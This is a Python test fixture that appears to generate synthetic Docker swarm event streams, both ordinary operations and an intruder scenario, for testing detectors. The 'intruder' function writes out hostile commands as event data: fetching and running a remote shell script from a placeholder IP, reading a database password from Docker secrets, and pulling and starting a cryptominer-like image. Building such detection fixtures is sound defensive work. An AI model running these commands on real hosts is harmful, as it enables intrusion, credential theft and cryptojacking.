"""A Docker host with a swarm stack, on ordinary days: health checks, releases, nightly batches, tidying, somebody's look."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import datetime, timedelta
from hashlib import sha256

import msgspec

from collector.formats.docker_events import Format
from event_model.event import Event, Origin, Record
from tests.detectors.traffic import START

HOST = Origin("engine", "docker_events", "", "edge")
FORMAT = Format()
SERVICE = "com.docker.swarm.service.name"
SERVICES = {
    "shop_web": ("registry.example.com/shop/web", "/bin/sh -c curl -fsS http://localhost/health"),
    "shop_api": ("registry.example.com/shop/api", "/bin/sh -c test -f /tmp/ready"),
    "shop_cache": ("registry.example.com/shop/cache", "redis-cli ping"),
    "ops_metrics": ("registry.example.com/ops/node-exporter", "/bin/true"),
}


def event(moment: datetime, kind: str, action: str, id: str, **attributes: str) -> Event:
    named = {name.replace("__", "."): value for name, value in attributes.items()}
    record = {
        "Type": kind, "Action": action, "Actor": {"ID": id, "Attributes": named}, "scope": "local",
        "time": int(moment.timestamp()), "timeNano": int(moment.timestamp() * 1e9),
    }  # fmt: skip
    return FORMAT.normalize(Record(msgspec.json.encode(record)), HOST)


class Container:
    """One container, and what the engine tells of it."""

    def __init__(self, service: str, image: str, chance: random.Random, name: str = "") -> None:
        self.id = sha256(f"{service} {chance.random()}".encode()).hexdigest()
        task = "".join(chance.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=25))
        self.labels = {"name": name or f"{service}.1.{task}", "image": image}
        if not name:
            self.labels[SERVICE] = service

    def told(self, moment: datetime, action: str, **more: str) -> Event:
        return event(moment, "container", action, self.id, **self.labels, **more)

    def command(self, moment: datetime, command: str, code: str = "0") -> Iterator[Event]:
        yield self.told(moment, f"exec_create: {command}")
        yield self.told(moment + timedelta(milliseconds=20), f"exec_start: {command}")
        yield self.told(moment + timedelta(milliseconds=300), "exec_die", exitCode=code)

    def begin(self, moment: datetime) -> Iterator[Event]:
        yield self.told(moment, "create")
        yield event(
            moment, "network", "connect", "9a" * 32, name="shop_default", container=self.id, type="overlay"
        )
        yield self.told(moment + timedelta(seconds=1), "start")

    def end(self, moment: datetime, code: str = "0") -> Iterator[Event]:
        yield self.told(moment, "kill", signal="15")
        yield self.told(moment + timedelta(seconds=2), "die", exitCode=code)
        yield event(
            moment, "network", "disconnect", "9a" * 32, name="shop_default", container=self.id, type="overlay"
        )
        yield self.told(moment + timedelta(seconds=3), "destroy")


def service(name: str, days: int, seed: int) -> Iterator[Event]:
    """One service: health checks every five minutes, a release every other day, a crash now and then."""
    chance = random.Random(f"{name} {seed}")
    image, check = SERVICES[name]
    version = 0
    container = Container(name, f"{image}:1.{version}", chance)
    yield from container.begin(START)
    for step in range(days * 288):
        moment = START + timedelta(minutes=5 * step, seconds=chance.uniform(1, 200))
        failed = chance.random() < 0.01
        yield from container.command(moment, check, "1" if failed else "0")
        if step % 12 == 0:
            yield container.told(
                moment + timedelta(seconds=5),
                "health_status: unhealthy" if failed else "health_status: healthy",
            )
        released = moment.hour == 10 and moment.minute < 5 and chance.random() < 0.5
        if released or chance.random() < 1 / 900:
            version += released
            moment += timedelta(seconds=20)
            if released:
                yield event(moment, "image", "pull", f"{image}:1.{version}", name=image)
                yield event(
                    moment,
                    "service",
                    "update",
                    "sv" * 12,
                    name=name,
                    image__new=f"{image}:1.{version}",
                    image__old="x",
                )
            yield from container.end(moment, "0" if released else "137")
            container = Container(name, f"{image}:1.{version}", chance)
            yield from container.begin(moment + timedelta(seconds=10))


def batches(days: int, seed: int) -> Iterator[Event]:
    """A report at night, tidying on Sundays, and an administrator who looks into a container on some days."""
    chance = random.Random(f"batches {seed}")
    for day in range(days):
        moment = START + timedelta(days=day, hours=2, minutes=chance.randrange(30))
        report = Container("report", "registry.example.com/batch/report:7", chance, f"report-{day + 1}")
        yield from report.begin(moment)
        yield report.told(moment + timedelta(minutes=4), "die", exitCode="0")
        yield report.told(moment + timedelta(minutes=4, seconds=1), "destroy")
        yield event(
            moment, "volume", "mount", "backup", driver="local", container=report.id, destination="/backup"
        )
        yield event(
            moment + timedelta(minutes=5), "image", "prune", "", reclaimed=str(chance.randrange(10**9))
        )
        if chance.random() < 0.6:
            image = SERVICES["shop_api"][0]
            moment += timedelta(hours=9 + chance.random() * 6)
            api = Container("shop_api", f"{image}:1.0", chance)
            yield from api.command(moment, chance.choice(["ls -l /app", "cat /app/version", "ps aux"]))


def ordinary(days: int, seed: int) -> list[Event]:
    """All of the host's events in order."""
    streams = [*(service(name, days, seed) for name in SERVICES), batches(days, seed)]
    return sorted((each for stream in streams for each in stream), key=lambda each: each.timestamp)


def intruder(moment: datetime) -> list[Event]:
    """Somebody in the cache: fetches a script, takes the secrets, and starts a container of an unknown image."""
    chance = random.Random("intruder")
    cache = Container("shop_cache", f"{SERVICES['shop_cache'][0]}:1.2", chance)
    miner = Container("", "docker.io/kinsing/worker:latest", chance, "kworker")
    return [
        *cache.command(moment, "sh -c wget -qO /tmp/.x http://203.0.113.66/x.sh; sh /tmp/.x"),
        *cache.command(moment + timedelta(seconds=40), "cat /run/secrets/db_password"),
        cache.told(moment + timedelta(seconds=70), "archive-path"),
        event(moment + timedelta(seconds=90), "image", "pull", "docker.io/kinsing/worker:latest", name="docker.io/kinsing/worker"),
        *miner.begin(moment + timedelta(seconds=95)),
    ]  # fmt: skip
